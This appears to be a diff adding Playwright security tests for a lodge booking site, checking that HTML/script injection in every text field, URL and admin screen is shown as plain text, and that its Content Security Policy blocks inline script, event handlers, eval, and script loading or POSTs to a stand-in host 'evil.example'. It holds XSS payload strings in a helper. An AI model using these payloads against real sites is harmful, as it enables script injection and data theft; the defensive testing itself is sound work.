@@ -1,0 +1,165 @@
+import type { Page } from "@playwright/test";
+import { login } from "#contract/auth.ts";
+import { setBookingStatus, updateBooking } from "#contract/bookings.ts";
+import { call, fetchTransport } from "#contract/call.ts";
+import { addNights } from "#domain/nights.ts";
+import {
+  storeAmenity,
+  storeBanquet,
+  storeBooking,
+  storeQuery,
+  storeRoom,
+  storeTestimonial,
+} from "#server/demo/factories.ts";
+import { expect, test } from "./fixtures.ts";
+import { type LodgeServer, staffLogin } from "./server.ts";
+
+/** Ends whatever it stands in, then tries to run: in an element, an attribute, a script, a comment. */
+const hostile = (field: string) => `${field} --></script><script>ran=1</script>"'><img src=/ran onerror=ran=1>`;
+
+/** A lodge of which every text that a guest or staff can type is hostile; put in past the forms' own rules. */
+async function storeHostileContent({ database: { db }, today }: LodgeServer) {
+  const amenity = await storeAmenity(db, { name: hostile("amenity"), type: "paid", price: 10 });
+  const room = await storeRoom(db, {
+    name: hostile("room"),
+    description: hostile("description"),
+    costOptions: [{ name: hostile("cost"), cost: 2000, discount: 0, serviceFeePercentage: 10, gstPercentage: 18 }],
+    amenities: [amenity],
+    totalRooms: 3,
+  });
+  const hall = { name: hostile("hall"), seatingCapacity: hostile("seats"), floor: hostile("floor") };
+  await storeBanquet(db, { ...hall, description: hostile("description") });
+  const words = { quote: hostile("quote"), author: hostile("author"), position: hostile("position") };
+  await storeTestimonial(db, { ...words, featured: true });
+  const query = await storeQuery(db, {
+    name: hostile("visitor"),
+    message: hostile("message"),
+    notes: hostile("notes"),
+  });
+  const booking = await storeBooking(db, {
+    roomId: room._id,
+    ...{ checkInDate: today, checkOutDate: addNights(today, 2) },
+    ...{ name: hostile("guest"), email: `${hostile("mail")}@example.in`, additionalGuests: hostile("others") },
+    ...{ specialRequests: hostile("requests"), additionalMessage: hostile("more") },
+  });
+  const colleague = { id: "colleague", user_id: hostile("colleague"), password_hash: "x", role: "staff" } as const;
+  await db
+    .insertInto("staff")
+    .values({ ...colleague, is_active: 1, created_at: new Date().toISOString() })
+    .execute();
+  return { room, query, booking };
+}
+
+/** Nothing ran, nothing became an element, and the texts that should be there are there as text. */
+async function expectHarmless(page: Page, texts: string[]): Promise<void> {
+  for (const text of texts) await expect(page.locator("body")).toContainText(`${text} --></script><script>ran=1`);
+  const found = await page.evaluate(() => ({
+    ran: "ran" in window,
+    images: document.querySelectorAll("img[src='/ran'], img[onerror]").length,
+    scripts: [...document.scripts].filter(({ text }) => text.startsWith("ran=")).length,
+    data: [...document.querySelectorAll("script[type='application/ld+json']")].map(
+      ({ textContent }) => textContent ?? "",
+    ),
+  }));
+  expect({ ...found, data: [] }).toEqual({ ran: false, images: 0, scripts: 0, data: [] });
+  for (const data of found.data) JSON.parse(data);
+}
+
+test("markup in any text is shown as text, to guests, to staff and to search engines", async ({ page, emptyLodge }) => {
+  const { room } = await storeHostileContent(emptyLodge);
+  const at = (path: string) => page.goto(`${emptyLodge.url}${path}`);
+  await at("/");
+  await expectHarmless(page, ["room", "quote", "author"]);
+  await at(`/service/rooms/${room._id}`);
+  await expectHarmless(page, ["room", "description", "cost", "amenity"]);
+  const offer = await page.locator("script[type='application/ld+json']").allTextContents();
+  expect(offer.some((text) => text.includes("room --"))).toBe(true);
+  await page.getByRole("button", { name: "Book Your Stay" }).first().click();
+  await expect(page.getByRole("dialog")).toContainText("room --");
+  await expectHarmless(page, []);
+  await at("/service/banquet-events");
+  await expectHarmless(page, ["hall", "floor", "seats", "description"]);
+});
+
+test("markup in an address is shown as text or not at all", async ({ page, lodge, allowErrors }) => {
+  allowErrors("404");
+  const text = encodeURIComponent(hostile("address"));
+  for (const path of [
+    `/service/rooms?checkin=${text}&adults=${text}`,
+    `/${text}`,
+    `/service/rooms/${text}`,
+    `/admin/${text}`,
+  ]) {
+    await page.goto(`${lodge.url}${path}`);
+    await expectHarmless(page, []);
+  }
+});
+
+test("markup in any text is shown as text on every screen of the admin", async ({ page, emptyLodge }) => {
+  const { room, query, booking } = await storeHostileContent(emptyLodge);
+  const transport: typeof fetchTransport = (request) =>
+    fetchTransport({ ...request, url: `${emptyLodge.url}${request.url}` });
+  const { token } = await call(transport, login, { body: staffLogin });
+  // So that the audit log has hostile texts, too.
+  const edit = { ...booking, roomId: room._id, name: "Asha", email: "asha@example.in", specialRequests: "" };
+  await call(transport, updateBooking, { params: { id: booking._id }, body: edit }, { token });
+  await call(transport, setBookingStatus, { params: { id: booking._id }, body: { status: "confirmed" } }, { token });
+  await page.addInitScript((token) => localStorage.setItem("token", token), token);
+  const screens: [string, string[]][] = [
+    ["/admin/dashboard", ["room"]],
+    ["/admin/bookings", ["room"]],
+    [`/admin/bookings?booking=${booking._id}`, []],
+    ["/admin/queries", ["visitor"]],
+    [`/admin/queries?view=${query}`, ["message", "notes"]],
+    ["/admin/rooms", ["room"]],
+    [`/admin/rooms?edit=${room._id}`, []],
+    ["/admin/amenities", ["amenity"]],
+    ["/admin/banquets", ["hall"]],
+    ["/admin/testimonials", ["quote", "author"]],
+    ["/admin/audit", ["requests"]],
+    ["/admin/staff", ["colleague"]],
+  ];
+  for (const [path, texts] of screens) {
+    await page.goto(`${emptyLodge.url}${path}`);
+    await expect(page.locator("h1").first()).toBeVisible();
+    await expectHarmless(page, texts);
+  }
+});
+
+test("script that did get into a page would not run: neither inline, nor as a handler, nor by eval", async ({
+  page,
+  lodge,
+  allowErrors,
+}) => {
+  allowErrors("Content Security Policy", "/ran", "evil.example");
+  for (const path of ["/", "/admin/login"]) {
+    await page.goto(`${lodge.url}${path}`);
+    const outcome = await page.evaluate(async () => {
+      const script = document.createElement("script");
+      script.textContent = "window.ran = 1";
+      document.body.append(script);
+      document.body.insertAdjacentHTML(
+        "beforeend",
+        '<img src="/ran" onerror="window.ran=1"><a href="javascript:ran=1">x</a>',
+      );
+      document.querySelector<HTMLElement>("a[href^='javascript:']")?.click();
+      const foreign = document.createElement("script");
+      foreign.src = "https://evil.example/x.js";
+      const refused = new Promise((resolve) => foreign.addEventListener("error", resolve));
+      document.body.append(foreign);
+      await refused;
+      let evaluated: string;
+      try {
+        evaluated = String(new Function("return 1")());
+      } catch (error) {
+        evaluated = (error as Error).name;
+      }
+      const posted = await fetch("https://evil.example/", { method: "POST" }).then(
+        String,
+        (error: Error) => error.name,
+      );
+      return { ran: "ran" in window, evaluated, posted };
+    });
+    expect(outcome).toEqual({ ran: false, evaluated: "EvalError", posted: "TypeError" });
+  }
+});
